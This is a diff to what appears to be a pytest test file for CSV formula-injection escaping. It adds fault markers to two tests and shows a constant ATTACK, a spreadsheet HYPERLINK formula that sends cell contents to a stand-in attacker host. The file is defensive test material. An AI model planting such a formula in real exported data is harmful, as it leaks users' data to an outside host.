@@ -19,6 +19,7 @@ LISTING: Listing[tuple[str, float]] = Listing(
 ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 
 
+@pytest.mark.fault(no=46)
 @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d"])
 def test_what_begins_like_a_formula_is_text(sign: str) -> None:
     """If it fails, a headline runs as a formula on the machine of whoever opens it."""
@@ -35,6 +36,7 @@ def test_a_number_stays_a_number() -> None:
     assert harmless(("Dy", "Tb")) == "Dy,Tb"
 
 
+@pytest.mark.fault(no=46)
 def test_a_table_is_read_back_as_it_was() -> None:
     """If it fails, a comma or a quotation mark moves a headline into the next column."""
     rows = [('said, "no"\nthen', 0.5), (ATTACK, 2)]
